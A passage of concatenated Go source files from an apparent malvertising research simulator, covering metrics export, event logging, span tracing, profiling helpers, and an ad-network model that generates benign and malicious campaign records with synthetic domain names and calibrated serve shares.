	sort.SliceStable(ss, func(i, j int) bool {
		if ss[i].p.Name != ss[j].p.Name {
			return ss[i].p.Name < ss[j].p.Name
		}
		return ss[i].labels < ss[j].labels
	})
	bw := bufio.NewWriter(w)
	prevFamily := ""
	for _, s := range ss {
		p := s.p
		if p.Name != prevFamily {
			prevFamily = p.Name
			fmt.Fprintf(bw, "# TYPE %s %s\n", p.Name, p.Kind)
		}
		switch metricKind(p.Kind) {
		case KindCounter, KindGauge:
			fmt.Fprintf(bw, "%s%s %d\n", p.Name, s.labels, p.Value)
		case KindHistogram:
			cum := int64(0)
			for i, n := range p.Buckets {
				cum += n
				le := math.Inf(1)
				if i < len(p.Bounds) {
					le = p.Bounds[i]
				}
				fmt.Fprintf(bw, "%s_bucket%s %d\n", p.Name, promLabels(p.Labels, "le", le), cum)
			}
			fmt.Fprintf(bw, "%s_sum%s %g\n", p.Name, s.labels, p.Sum)
			fmt.Fprintf(bw, "%s_count%s %d\n", p.Name, s.labels, p.Count)
		}
	}
	return bw.Flush()
}

// promLabels renders a label set (plus an optional le bound) as {k="v",...}.
func promLabels(labels map[string]string, leKey string, le float64) string {
	if len(labels) == 0 && leKey == "" {
		return ""
	}
	keys := make([]string, 0, len(labels))
	for k := range labels {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	var b strings.Builder
	b.WriteByte('{')
	for i, k := range keys {
		if i > 0 {
			b.WriteByte(',')
		}
		b.WriteString(k)
		b.WriteString(`="`)
		b.WriteString(escapeLabelValue(labels[k]))
		b.WriteByte('"')
	}
	if leKey != "" {
		if len(keys) > 0 {
			b.WriteByte(',')
		}
		leStr := "+Inf"
		if !math.IsInf(le, 1) {
			leStr = fmt.Sprintf("%g", le)
		}
		fmt.Fprintf(&b, "%s=%q", leKey, leStr)
	}
	b.WriteByte('}')
	return b.String()
}

// escapeLabelValue escapes a label value per the Prometheus text exposition
// format: exactly backslash, double quote, and newline are escaped, every
// other byte passes through raw. (Go's %q would also invent escapes like \t
// and \u…, which the exposition format treats as a literal backslash
// followed by junk.)
func escapeLabelValue(v string) string {
	if !strings.ContainsAny(v, "\\\"\n") {
		return v
	}
	var b strings.Builder
	b.Grow(len(v) + 8)
	for i := 0; i < len(v); i++ {
		switch v[i] {
		case '\\':
			b.WriteString(`\\`)
		case '"':
			b.WriteString(`\"`)
		case '\n':
			b.WriteString(`\n`)
		default:
			b.WriteByte(v[i])
		}
	}
	return b.String()
}
