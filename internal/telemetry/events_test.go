package telemetry

import (
	"bufio"
	"bytes"
	"encoding/json"
	"fmt"
	"strings"
	"sync"
	"testing"
	"time"
)

func TestEventLogRingBounded(t *testing.T) {
	l := NewEventLog(16)
	for i := 0; i < 1000; i++ {
		l.Emit(LevelInfo, "tick", "stage", fmt.Sprintf("msg-%d", i))
	}
	if got := l.Total(); got != 1000 {
		t.Fatalf("total = %d, want 1000", got)
	}
	snap := l.Snapshot(0)
	if len(snap) != 16 {
		t.Fatalf("retained %d events, want ring capacity 16", len(snap))
	}
	// The ring keeps the newest events, oldest-first, with contiguous seqs.
	for i, ev := range snap {
		if want := int64(984 + i); ev.Seq != want {
			t.Fatalf("snap[%d].Seq = %d, want %d", i, ev.Seq, want)
		}
	}
	if last := l.Snapshot(4); len(last) != 4 || last[3].Seq != 999 {
		t.Fatalf("Snapshot(4) = %+v", last)
	}
}

func TestEventLogFieldsAndSink(t *testing.T) {
	var sink bytes.Buffer
	l := NewEventLog(8)
	l.SetClock(func() time.Time { return time.Unix(42, 7) })
	l.SetSink(&sink)
	l.Emit(LevelWarn, EventShedBurst, "admission", "buffer saturated", "offered", "10", "shed", "3", "odd")
	if err := l.Flush(); err != nil {
		t.Fatal(err)
	}

	snap := l.Snapshot(0)
	if len(snap) != 1 {
		t.Fatalf("retained %d events", len(snap))
	}
	ev := snap[0]
	if ev.Level != LevelWarn || ev.Kind != EventShedBurst || ev.Stage != "admission" {
		t.Fatalf("event = %+v", ev)
	}
	if ev.Fields["offered"] != "10" || ev.Fields["shed"] != "3" || ev.Fields["odd"] != "" {
		t.Fatalf("fields = %+v", ev.Fields)
	}
	if ev.WallNS != time.Unix(42, 7).UnixNano() {
		t.Fatalf("wall = %d", ev.WallNS)
	}

	// The sink got the same event as one JSON line.
	var fromSink Event
	if err := json.Unmarshal(sink.Bytes(), &fromSink); err != nil {
		t.Fatalf("sink line not JSON: %v (%q)", err, sink.String())
	}
	if fromSink.Kind != EventShedBurst || fromSink.Seq != 0 {
		t.Fatalf("sink event = %+v", fromSink)
	}

	var jsonl bytes.Buffer
	if err := l.WriteJSONL(&jsonl, 0); err != nil {
		t.Fatal(err)
	}
	sc := bufio.NewScanner(&jsonl)
	lines := 0
	for sc.Scan() {
		lines++
	}
	if lines != 1 {
		t.Fatalf("WriteJSONL emitted %d lines", lines)
	}
}

func TestEventLogConcurrentEmit(t *testing.T) {
	l := NewEventLog(64)
	var wg sync.WaitGroup
	for w := 0; w < 8; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < 500; i++ {
				l.Emit(LevelInfo, "k", "", strings.Repeat("x", w))
				if i%100 == 0 {
					l.Snapshot(8)
				}
			}
		}(w)
	}
	wg.Wait()
	if l.Total() != 4000 {
		t.Fatalf("total = %d, want 4000", l.Total())
	}
}

func TestNilEventLogAndSetAreNoops(t *testing.T) {
	var l *EventLog
	l.Emit(LevelInfo, "k", "", "")
	if l.Total() != 0 || l.Snapshot(0) != nil {
		t.Fatal("nil EventLog not a no-op")
	}
	var s *Set
	s.Event(LevelInfo, "k", "", "") // must not panic
	withLog := New(1)
	withLog.Event(LevelInfo, "k", "", "") // no Events attached: swallowed
	withLog.Events = NewEventLog(4)
	withLog.Event(LevelError, "boom", "stage", "msg")
	if withLog.Events.Total() != 1 {
		t.Fatal("Set.Event did not reach the attached log")
	}
}
