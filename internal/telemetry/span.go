package telemetry

import (
	"bufio"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"sort"
	"sync"
	"sync/atomic"
	"time"
)

// StageHistName is the shared histogram family every pipeline stage's
// duration is observed into, labeled stage=<stage name>. The latency table
// and the Perfetto trace both key off the same stage names.
const StageHistName = "pipeline_stage_duration_ns"

// Pipeline stage names, root to leaf. The span tree of one visit is
// crawl.visit → browser.load → resilient.attempt → memnet.dispatch, with
// easylist.match under the visit; the analysis side is oracle.classify →
// honeyclient.analyze → browser.load → ….
const (
	StageCrawlVisit  = "crawl.visit"
	StageBrowserLoad = "browser.load"
	StageResilient   = "resilient.attempt"
	StageMemnet      = "memnet.dispatch"
	StageEasyList    = "easylist.match"
	StageHoneyclient = "honeyclient.analyze"
	StageOracle      = "oracle.classify"
	// Streaming-service stages (internal/stream): per-item crawl/analyze
	// durations observed by the supervised stage runtime, one commit span per
	// journaled record, and one drain span bracketing the graceful wind-down
	// after a shutdown request.
	StageStreamCrawl   = "stream.crawl"
	StageStreamAnalyze = "stream.analyze"
	StageStreamCommit  = "stream.commit"
	StageStreamDrain   = "stream.drain"
)

// StreamStages lists the streaming-service stages in pipeline order. They
// appear in the latency table only when the streaming service ran.
func StreamStages() []string {
	return []string{StageStreamCrawl, StageStreamAnalyze, StageStreamCommit, StageStreamDrain}
}

// Stages lists every batch-pipeline stage in pipeline order (the stages a
// plain crawl→oracle run records; the stream.* stages appear only when the
// streaming service runs and are reported separately).
func Stages() []string {
	return []string{
		StageCrawlVisit, StageBrowserLoad, StageResilient, StageMemnet,
		StageEasyList, StageHoneyclient, StageOracle,
	}
}

// Set bundles the run's registry and (optionally) its tracer, plus the seed
// deterministic span IDs derive from. One Set covers one run; reusing a Set
// across runs accumulates counts. A nil *Set is a valid no-op everywhere,
// so instrumented code needs no branches beyond the nil receiver checks the
// methods already do.
type Set struct {
	Registry *Registry
	// Tracer is nil until EnableTracing; metrics work either way.
	Tracer *Tracer
	// Events is nil until an event log is attached (see events.go); the
	// Event helper is a no-op without one.
	Events *EventLog
	Seed   uint64

	// stageHists is a copy-on-write stage→histogram cache so every span
	// start after the first for a stage resolves its histogram lock-free
	// and allocation-free. The stage vocabulary is tiny and fixed, so the
	// occasional full-map copy on first sight of a stage is irrelevant.
	stageHists atomic.Pointer[map[string]*Histogram]
}

// New returns a Set with a fresh registry and no tracer.
func New(seed uint64) *Set {
	return &Set{Registry: NewRegistry(), Seed: seed}
}

// EnableTracing attaches a span tracer (idempotent).
func (s *Set) EnableTracing() {
	if s.Tracer == nil {
		s.Tracer = NewTracer()
	}
}

// Counter is a nil-safe Registry.Counter.
func (s *Set) Counter(name string, labels ...Label) *Counter {
	if s == nil {
		return nil
	}
	return s.Registry.Counter(name, labels...)
}

// Gauge is a nil-safe Registry.Gauge.
func (s *Set) Gauge(name string, labels ...Label) *Gauge {
	if s == nil {
		return nil
	}
	return s.Registry.Gauge(name, labels...)
}

// StageHist returns the latency histogram for a pipeline stage. After the
// first call for a stage the lookup is lock-free and allocation-free.
func (s *Set) StageHist(stage string) *Histogram {
	if s == nil {
		return nil
	}
	if m := s.stageHists.Load(); m != nil {
		if h, ok := (*m)[stage]; ok {
			return h
		}
	}
	h := s.Registry.Histogram(StageHistName, nil, L("stage", stage))
	for {
		old := s.stageHists.Load()
		next := make(map[string]*Histogram, 8)
		if old != nil {
			for k, v := range *old {
				next[k] = v
			}
		}
		next[stage] = h
		if s.stageHists.CompareAndSwap(old, &next) {
			return h
		}
	}
}

// fnv1a folds data into an FNV-1a 64-bit hash.
func fnv1a(h uint64, data string) uint64 {
	if h == 0 {
		h = 14695981039346656037 // FNV offset basis
	}
	for i := 0; i < len(data); i++ {
		h ^= uint64(data[i])
		h *= 1099511628211 // FNV prime
	}
	return h
}

// fnv1aU64 folds v's eight bytes (little-endian) into the hash without
// formatting it as text first, keeping ID derivation allocation-free.
func fnv1aU64(h, v uint64) uint64 {
	if h == 0 {
		h = 14695981039346656037 // FNV offset basis
	}
	for i := 0; i < 8; i++ {
		h ^= v & 0xff
		h *= 1099511628211 // FNV prime
		v >>= 8
	}
	return h
}

// RootID derives the deterministic span ID of a pipeline root from
// (seed, stage, key). Two same-seed runs produce identical IDs for the
// same work unit, so traces are diffable across runs.
func RootID(seed uint64, stage, key string) uint64 {
	h := fnv1aU64(0, seed)
	h = fnv1a(h, stage)
	h = fnv1a(h, key)
	return h
}

// childID derives a child span's ID from its parent's ID, the stage, the
// key, and the child's ordinal under that parent. The ordinal is assigned
// by the parent's goroutine, so it is deterministic run to run.
func childID(parent uint64, stage, key string, seq int64) uint64 {
	h := fnv1aU64(0, parent)
	h = fnv1aU64(h, uint64(seq))
	h = fnv1a(h, stage)
	h = fnv1a(h, key)
	return h
}

// Span is one in-flight pipeline stage. End it exactly once.
type Span struct {
	set      *Set
	id       uint64
	parentID uint64
	stage    string
	key      string
	start    time.Time
	hist     *Histogram
	childSeq int64
}

// ID returns the span's deterministic ID (0 on a nil span).
func (sp *Span) ID() uint64 {
	if sp == nil {
		return 0
	}
	return sp.id
}

type spanCtxKey struct{}

// SpanFromContext returns the active span, or nil.
func SpanFromContext(ctx context.Context) *Span {
	sp, _ := ctx.Value(spanCtxKey{}).(*Span)
	return sp
}

// StartSpan opens a span for stage with the given identity key. If ctx
// carries a span, the new one is its child (ID derived from the parent);
// otherwise it is a root (ID derived from the Set's seed). The returned
// context carries the new span for deeper stages. On a nil Set it returns
// ctx unchanged and a nil span whose End is a no-op.
func (s *Set) StartSpan(ctx context.Context, stage, key string) (context.Context, *Span) {
	if s == nil {
		return ctx, nil
	}
	sp := &Span{set: s, stage: stage, key: key, start: time.Now(), hist: s.StageHist(stage)}
	if parent := SpanFromContext(ctx); parent != nil {
		sp.parentID = parent.id
		seq := atomic.AddInt64(&parent.childSeq, 1)
		sp.id = childID(parent.id, stage, key, seq)
	} else {
		sp.id = RootID(s.Seed, stage, key)
	}
	return context.WithValue(ctx, spanCtxKey{}, sp), sp
}

// End closes the span: its duration lands in the stage histogram and, when
// tracing is enabled, the span record lands in the tracer.
func (sp *Span) End() {
	if sp == nil {
		return
	}
	dur := time.Since(sp.start)
	if sp.hist != nil {
		sp.hist.ObserveDuration(dur)
	}
	if tr := sp.set.Tracer; tr != nil {
		tr.add(SpanRecord{
			ID:       sp.id,
			ParentID: sp.parentID,
			Stage:    sp.stage,
			Key:      sp.key,
			StartNS:  sp.start.Sub(tr.epoch).Nanoseconds(),
			DurNS:    dur.Nanoseconds(),
		})
	}
}

// StageTimer is the allocation-free alternative to StartSpan for leaf
// stages: a value type that observes the stage histogram (and, when tracing
// is on, emits a span record with the same parent/ordinal-derived ID a Span
// would have had) without heap-allocating a Span or deriving a child
// context. Use it where the stage has no children — the two hottest sites
// are the per-request memnet dispatch and the per-frame easylist match.
// The zero StageTimer (and any timer from a nil Set) is a no-op.
type StageTimer struct {
	set      *Set
	hist     *Histogram
	stage    string
	key      string
	id       uint64
	parentID uint64
	start    time.Time
}

// StartStageTimer opens a leaf-stage timer parented to the span on ctx (if
// any). It participates in the parent's child-ordinal sequence, so sibling
// Spans keep the same deterministic IDs whether or not a leaf between them
// used a timer instead.
func (s *Set) StartStageTimer(ctx context.Context, stage, key string) StageTimer {
	if s == nil {
		return StageTimer{}
	}
	t := StageTimer{set: s, stage: stage, key: key, start: time.Now(), hist: s.StageHist(stage)}
	if parent := SpanFromContext(ctx); parent != nil {
		t.parentID = parent.id
		seq := atomic.AddInt64(&parent.childSeq, 1)
		t.id = childID(parent.id, stage, key, seq)
	} else {
		t.id = RootID(s.Seed, stage, key)
	}
	return t
}

// End closes the timer: duration into the stage histogram, span record into
// the tracer when tracing is enabled.
func (t StageTimer) End() {
	if t.set == nil {
		return
	}
	dur := time.Since(t.start)
	if t.hist != nil {
		t.hist.ObserveDuration(dur)
	}
	if tr := t.set.Tracer; tr != nil {
		tr.add(SpanRecord{
			ID:       t.id,
			ParentID: t.parentID,
			Stage:    t.stage,
			Key:      t.key,
			StartNS:  t.start.Sub(tr.epoch).Nanoseconds(),
			DurNS:    dur.Nanoseconds(),
		})
	}
}

// SpanRecord is one finished span.
type SpanRecord struct {
	ID       uint64
	ParentID uint64
	Stage    string
	Key      string
	// StartNS is nanoseconds since the tracer's epoch (monotonic).
	StartNS int64
	DurNS   int64
}

// DefaultMaxSpans bounds tracer memory; spans beyond it are counted as
// dropped rather than growing without limit.
const DefaultMaxSpans = 1 << 20

// Tracer collects finished spans.
type Tracer struct {
	epoch time.Time
	// MaxSpans caps retained spans (0 = DefaultMaxSpans).
	MaxSpans int

	mu      sync.Mutex
	spans   []SpanRecord
	dropped int64
}

// NewTracer returns an empty tracer whose epoch is now.
func NewTracer() *Tracer {
	return &Tracer{epoch: time.Now()}
}

func (t *Tracer) add(rec SpanRecord) {
	t.mu.Lock()
	defer t.mu.Unlock()
	max := t.MaxSpans
	if max <= 0 {
		max = DefaultMaxSpans
	}
	if len(t.spans) >= max {
		t.dropped++
		return
	}
	t.spans = append(t.spans, rec)
}

// Len returns the number of retained spans.
func (t *Tracer) Len() int {
	t.mu.Lock()
	defer t.mu.Unlock()
	return len(t.spans)
}

// Dropped returns how many spans were discarded over MaxSpans.
func (t *Tracer) Dropped() int64 {
	t.mu.Lock()
	defer t.mu.Unlock()
	return t.dropped
}

// Spans returns a copy of the retained spans sorted by start time (ties by
// ID), a stable presentation order for a given capture.
func (t *Tracer) Spans() []SpanRecord {
	t.mu.Lock()
	out := make([]SpanRecord, len(t.spans))
	copy(out, t.spans)
	t.mu.Unlock()
	sort.Slice(out, func(i, j int) bool {
		if out[i].StartNS != out[j].StartNS {
			return out[i].StartNS < out[j].StartNS
		}
		return out[i].ID < out[j].ID
	})
	return out
}

// jsonlSpan is the JSON-lines wire form; IDs are hex strings because uint64
// exceeds JSON's float precision.
type jsonlSpan struct {
	ID      string `json:"id"`
	Parent  string `json:"parent,omitempty"`
	Stage   string `json:"stage"`
	Key     string `json:"key,omitempty"`
	StartNS int64  `json:"start_ns"`
	DurNS   int64  `json:"dur_ns"`
}

// WriteJSONL writes the spans as JSON lines, one span per line.
func (t *Tracer) WriteJSONL(w io.Writer) error {
	bw := bufio.NewWriter(w)
	enc := json.NewEncoder(bw)
	for _, sp := range t.Spans() {
		rec := jsonlSpan{
			ID:      fmt.Sprintf("%016x", sp.ID),
			Stage:   sp.Stage,
			Key:     sp.Key,
			StartNS: sp.StartNS,
			DurNS:   sp.DurNS,
		}
		if sp.ParentID != 0 {
			rec.Parent = fmt.Sprintf("%016x", sp.ParentID)
		}
		if err := enc.Encode(rec); err != nil {
			return err
		}
	}
	return bw.Flush()
}

// chromeEvent is one trace_event entry ("X" = complete event). ts and dur
// are microseconds; fractional values keep nanosecond precision.
type chromeEvent struct {
	Name string            `json:"name"`
	Cat  string            `json:"cat"`
	Ph   string            `json:"ph"`
	TS   float64           `json:"ts"`
	Dur  float64           `json:"dur"`
	PID  int               `json:"pid"`
	TID  int               `json:"tid"`
	Args map[string]string `json:"args,omitempty"`
}

// chromeTrace is the trace_event JSON object format, which loads directly
// in chrome://tracing and Perfetto.
type chromeTrace struct {
	TraceEvents     []chromeEvent `json:"traceEvents"`
	DisplayTimeUnit string        `json:"displayTimeUnit"`
}

// WriteChromeTrace writes the spans in Chrome trace_event format. Each
// pipeline root (a crawl visit or an oracle classification) gets its own
// track (tid), so a root's subtree nests visually under it; tracks are
// numbered in root start order.
func (t *Tracer) WriteChromeTrace(w io.Writer) error {
	spans := t.Spans()
	byID := make(map[uint64]*SpanRecord, len(spans))
	for i := range spans {
		byID[spans[i].ID] = &spans[i]
	}
	// rootOf walks to the topmost ancestor present in the capture.
	rootOf := func(sp *SpanRecord) uint64 {
		cur := sp
		for depth := 0; depth < 64; depth++ {
			p, ok := byID[cur.ParentID]
			if cur.ParentID == 0 || !ok {
				return cur.ID
			}
			cur = p
		}
		return cur.ID
	}
	lanes := make(map[uint64]int)
	events := make([]chromeEvent, 0, len(spans))
	for i := range spans {
		sp := &spans[i]
		root := rootOf(sp)
		lane, ok := lanes[root]
		if !ok {
			lane = len(lanes) + 1
			lanes[root] = lane
		}
		ev := chromeEvent{
			Name: sp.Stage,
			Cat:  "pipeline",
			Ph:   "X",
			TS:   float64(sp.StartNS) / 1e3,
			Dur:  float64(sp.DurNS) / 1e3,
			PID:  1,
			TID:  lane,
			Args: map[string]string{"id": fmt.Sprintf("%016x", sp.ID)},
		}
		if sp.Key != "" {
			ev.Args["key"] = sp.Key
		}
		events = append(events, ev)
	}
	enc := json.NewEncoder(w)
	return enc.Encode(chromeTrace{TraceEvents: events, DisplayTimeUnit: "ms"})
}
