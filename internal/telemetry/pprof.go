package telemetry

import (
	"fmt"
	"net"
	"net/http"
	"net/http/pprof"
	"os"
	"runtime"
	runtimepprof "runtime/pprof"
	"time"
)

// RegisterPprof mounts the net/http/pprof handlers under /debug/pprof/ on
// mux. Shared by StartPprof and the ops-plane server (internal/opsd), so
// both expose identical profiling surfaces without touching the
// process-global http.DefaultServeMux.
func RegisterPprof(mux *http.ServeMux) {
	mux.HandleFunc("/debug/pprof/", pprof.Index)
	mux.HandleFunc("/debug/pprof/cmdline", pprof.Cmdline)
	mux.HandleFunc("/debug/pprof/profile", pprof.Profile)
	mux.HandleFunc("/debug/pprof/symbol", pprof.Symbol)
	mux.HandleFunc("/debug/pprof/trace", pprof.Trace)
}

// StartPprof serves net/http/pprof on addr (e.g. "localhost:6060";
// ":0" picks a free port). It returns the bound address and a stop
// function. The handlers live on a private mux, so the process-global
// http.DefaultServeMux stays clean.
func StartPprof(addr string) (boundAddr string, stop func() error, err error) {
	mux := http.NewServeMux()
	RegisterPprof(mux)

	ln, err := net.Listen("tcp", addr)
	if err != nil {
		return "", nil, fmt.Errorf("telemetry: pprof listen: %w", err)
	}
	srv := &http.Server{Handler: mux}
	go srv.Serve(ln) //nolint:errcheck // Serve returns on Close
	return ln.Addr().String(), srv.Close, nil
}

// StartCPUProfile begins writing a CPU profile to path and returns a stop
// function that ends the profile and closes the file.
func StartCPUProfile(path string) (stop func() error, err error) {
	f, err := os.Create(path)
	if err != nil {
		return nil, err
	}
	if err := runtimepprof.StartCPUProfile(f); err != nil {
		f.Close()
		return nil, fmt.Errorf("telemetry: start cpu profile: %w", err)
	}
	return func() error {
		runtimepprof.StopCPUProfile()
		return f.Close()
	}, nil
}

// WriteHeapProfile garbage-collects (so the profile reflects live objects)
// and writes a heap profile to path.
func WriteHeapProfile(path string) error {
	f, err := os.Create(path)
	if err != nil {
		return err
	}
	defer f.Close()
	runtime.GC()
	if err := runtimepprof.WriteHeapProfile(f); err != nil {
		return fmt.Errorf("telemetry: write heap profile: %w", err)
	}
	return nil
}

// ProfileStudy wraps a study run with optional CPU and heap capture: call
// the returned finish after the run. Empty paths disable the respective
// capture, so callers can pass flag values straight through.
func ProfileStudy(cpuPath, heapPath string) (finish func() error, err error) {
	var stopCPU func() error
	if cpuPath != "" {
		stopCPU, err = StartCPUProfile(cpuPath)
		if err != nil {
			return nil, err
		}
	}
	return func() error {
		if stopCPU != nil {
			if err := stopCPU(); err != nil {
				return err
			}
		}
		if heapPath != "" {
			return WriteHeapProfile(heapPath)
		}
		return nil
	}, nil
}

// fmtDuration renders a nanosecond quantity compactly for the latency table.
func fmtDuration(ns float64) string {
	d := time.Duration(ns)
	switch {
	case d >= time.Second:
		return fmt.Sprintf("%.2fs", d.Seconds())
	case d >= time.Millisecond:
		return fmt.Sprintf("%.2fms", float64(d)/float64(time.Millisecond))
	case d >= time.Microsecond:
		return fmt.Sprintf("%.1fµs", float64(d)/float64(time.Microsecond))
	default:
		return fmt.Sprintf("%dns", d.Nanoseconds())
	}
}
