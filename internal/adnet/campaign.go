// Package adnet models the advertising ecosystem of the paper: ad networks
// (exchanges) with market shares and filtering policies, advertiser
// campaigns (benign and malicious), impression auctions, and the ad
// arbitration process in which networks buy impressions from publishers and
// resell them to other networks (§4.3).
//
// The model is mechanistic, not tabulated: malicious ads end up concentrated
// at poorly-filtering networks because those networks accept the campaigns
// that well-run exchanges reject, and long arbitration chains drift into the
// shady corner of the market because reputable exchanges drop out of
// low-value auctions first. The paper's Figures 1, 2, and 5 emerge from
// these mechanics.
package adnet

import (
	"fmt"

	"madave/internal/stats"
)

// Kind classifies an advertisement campaign's behaviour. The malicious
// kinds map one-to-one onto the paper's Table 1 rows.
type Kind int

// Campaign kinds.
const (
	KindBenign Kind = iota
	// KindBlacklisted promotes content hosted on domains that appear on
	// many public blacklists (scams, pharma, phishing). Table 1
	// "Blacklists".
	KindBlacklisted
	// KindLinkHijack carries a script that rewrites top.location, stealing
	// the whole tab (§2.3). Table 1 "Suspicious redirections".
	KindLinkHijack
	// KindCloaking probes the environment and redirects analysis clients to
	// NX domains or benign search engines. Table 1 "Heuristics".
	KindCloaking
	// KindDriveBy exploits browser plugins and silently downloads an
	// executable (§2.1). Table 1 "Malicious executables".
	KindDriveBy
	// KindDeceptive shows a fake plugin-update prompt whose download is
	// malware (§2.2). Table 1 "Malicious executables".
	KindDeceptive
	// KindMaliciousFlash serves an exploit-laden Flash creative.
	// Table 1 "Malicious Flash".
	KindMaliciousFlash
	// KindModelOnly behaves anomalously (obfuscation layers, plugin
	// enumeration, cross-origin beacons) without a detectable payload; only
	// the behavioural model catches it. Table 1 "Model detection".
	KindModelOnly
)

// String returns the kind's name.
func (k Kind) String() string {
	switch k {
	case KindBenign:
		return "benign"
	case KindBlacklisted:
		return "blacklisted"
	case KindLinkHijack:
		return "link-hijack"
	case KindCloaking:
		return "cloaking"
	case KindDriveBy:
		return "drive-by"
	case KindDeceptive:
		return "deceptive-download"
	case KindMaliciousFlash:
		return "malicious-flash"
	case KindModelOnly:
		return "model-only"
	}
	return fmt.Sprintf("Kind(%d)", int(k))
}

// IsMalicious reports whether the kind is one of the malicious behaviours.
func (k Kind) IsMalicious() bool { return k != KindBenign }

// maliciousServeShares calibrates, per malicious kind, its share of all
// malicious impressions. The values are the paper's Table 1 rows divided by
// the 6,601 total incidents.
var maliciousServeShares = map[Kind]float64{
	KindBlacklisted:    4794.0 / 6601.0, // 72.6%
	KindLinkHijack:     1396.0 / 6601.0, // 21.1%
	KindCloaking:       309.0 / 6601.0,  // 4.7%
	KindDriveBy:        45.0 / 6601.0,   // with deceptive: 68 executables
	KindDeceptive:      23.0 / 6601.0,
	KindMaliciousFlash: 31.0 / 6601.0, // 0.47%
	KindModelOnly:      3.0 / 6601.0,  // 0.045%
}

// Campaign is one advertiser campaign: a creative plus the domains it uses.
type Campaign struct {
	// ID is a stable identifier ("cmp-00042").
	ID string
	// Kind is the campaign's behaviour class.
	Kind Kind
	// CreativeHost serves the ad's iframe content and images.
	CreativeHost string
	// LandingHost is where a click (or hijack) leads.
	LandingHost string
	// PayloadHost serves the executable/Flash payload for the kinds that
	// have one; empty otherwise.
	PayloadHost string
	// ListedOn is the ground-truth number of public blacklists that carry
	// the campaign's domains. The oracle's ">5 lists" threshold reads this
	// through the blacklist tracker, never directly.
	ListedOn int
	// Weight is the campaign's serve weight within a network's inventory
	// (bigger budget = more impressions).
	Weight float64
	// AcceptedBy lists indices of the networks whose submission filters the
	// campaign passed.
	AcceptedBy []int
}

// IsMalicious reports whether the campaign is malicious.
func (c *Campaign) IsMalicious() bool { return c.Kind.IsMalicious() }

// HasPayload reports whether the campaign downloads a binary payload.
func (c *Campaign) HasPayload() bool {
	switch c.Kind {
	case KindDriveBy, KindDeceptive, KindMaliciousFlash:
		return true
	}
	return false
}

// generateCampaigns builds the advertiser population. Benign campaigns get
// clean commerce-sounding domains; malicious campaigns get domains whose
// blacklist ground truth matches their kind.
func generateCampaigns(cfg Config, rng *stats.RNG) []*Campaign {
	var out []*Campaign
	id := 0
	newID := func() string {
		id++
		return fmt.Sprintf("cmp-%05d", id)
	}

	usedNames := map[string]bool{}
	unique := func(gen func() string) string {
		for {
			name := gen()
			if !usedNames[name] {
				usedNames[name] = true
				return name
			}
		}
	}

	benignStems := []string{"buy", "super", "mega", "best", "smart", "prime", "go", "top", "fresh", "easy"}
	benignTails := []string{"deals", "shop", "offers", "store", "mart", "brands", "style", "gear", "direct", "club"}
	for i := 0; i < cfg.BenignCampaigns; i++ {
		name := unique(func() string {
			return stats.Pick(rng, benignStems) + stats.Pick(rng, benignTails) + rng.RandWord(2, 4)
		})
		listed := 0
		if rng.Bool(0.03) {
			listed = 1 + rng.Intn(4) // blacklist false-positive noise, below threshold
		}
		out = append(out, &Campaign{
			ID:           newID(),
			Kind:         KindBenign,
			CreativeHost: "cdn." + name + ".com",
			LandingHost:  "www." + name + ".com",
			ListedOn:     listed,
			Weight:       0.5 + rng.Float64(),
		})
	}

	// Malicious campaign counts per kind: enough of each for variety, with
	// serve weights normalized so the *impression* mixture matches Table 1.
	// The slice (not a map) keeps generation order — and thus the whole
	// ecosystem — deterministic.
	kindCounts := []struct {
		kind  Kind
		count int
	}{
		{KindBlacklisted, cfg.MaliciousCampaigns * 50 / 100},
		{KindLinkHijack, cfg.MaliciousCampaigns * 20 / 100},
		{KindCloaking, cfg.MaliciousCampaigns * 10 / 100},
		{KindDriveBy, cfg.MaliciousCampaigns * 6 / 100},
		{KindDeceptive, cfg.MaliciousCampaigns * 5 / 100},
		{KindMaliciousFlash, cfg.MaliciousCampaigns * 5 / 100},
		{KindModelOnly, cfg.MaliciousCampaigns * 4 / 100},
	}
	for _, kc := range kindCounts {
		count := kc.count
		if count < 1 {
			count = 1
		}
		w := malWeightScale * maliciousServeShares[kc.kind] / float64(count)
		for i := 0; i < count; i++ {
			out = append(out, newMaliciousCampaign(newID(), kc.kind, w, rng, unique))
		}
	}
	return out
}

// malWeightScale scales malicious campaigns' serve weights relative to
// benign ones. Malicious advertisers outbid legitimate demand for the
// inventory they can reach (they monetize infections, not clicks), which is
// what drives weakly-filtered networks' malvertising ratios above 1/3
// (Figure 1) and calibrates the global ~1% malicious impression rate.
const malWeightScale = 4.5

var shadyStems = []string{"free", "win", "bonus", "lucky", "hot", "instant", "vip", "cash", "prize", "secret"}
var shadyTails = []string{"prizes", "downloads", "media", "updates", "offerz", "clickz", "traffic", "promo", "rewardz", "installs"}
var shadyTLDs = []string{"com", "net", "info", "biz", "ru", "cn"}

func newMaliciousCampaign(id string, kind Kind, weight float64, rng *stats.RNG, unique func(func() string) string) *Campaign {
	tld := stats.Pick(rng, shadyTLDs)
	name := unique(func() string {
		return stats.Pick(rng, shadyStems) + stats.Pick(rng, shadyTails) + rng.RandWord(2, 5)
	})
	c := &Campaign{
		ID:           id,
		Kind:         kind,
		CreativeHost: "ads." + name + "." + tld,
		LandingHost:  "www." + name + "." + tld,
		Weight:       weight,
	}
	switch kind {
	case KindBlacklisted:
		// The defining property: the serving domains are widely
		// blacklisted. The floor of 7 keeps them above the oracle's ">5
		// lists" threshold even after provider-tracking jitter.
		c.ListedOn = 7 + rng.Intn(24)
	case KindDriveBy, KindDeceptive, KindMaliciousFlash:
		c.PayloadHost = "dl." + name + "." + tld
		c.ListedOn = rng.Intn(5) // payload kinds mostly evade blacklists
	default:
		c.ListedOn = rng.Intn(5)
	}
	return c
}
