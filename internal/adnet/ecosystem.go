package adnet

import (
	"fmt"

	"madave/internal/stats"
)

// Config parameterizes ecosystem generation.
type Config struct {
	// NumNetworks is the number of ad networks/exchanges.
	NumNetworks int
	// BenignCampaigns and MaliciousCampaigns size the advertiser population.
	BenignCampaigns    int
	MaliciousCampaigns int
	// RogueIndex is the market-share rank of the mid-sized network that —
	// like the one the paper spotted serving ~3% of all ads — filters
	// poorly despite its size. Negative disables it.
	RogueIndex int
	// ShadyFraction is the fraction of networks (from the small end of the
	// market) with weak or absent filtering.
	ShadyFraction float64
	// SharedSubmissionFilter enables the §5.1 countermeasure: when any
	// network's screening rejects a malicious campaign, the rejection is
	// published to a common blacklist and every network consulted
	// afterwards rejects it too.
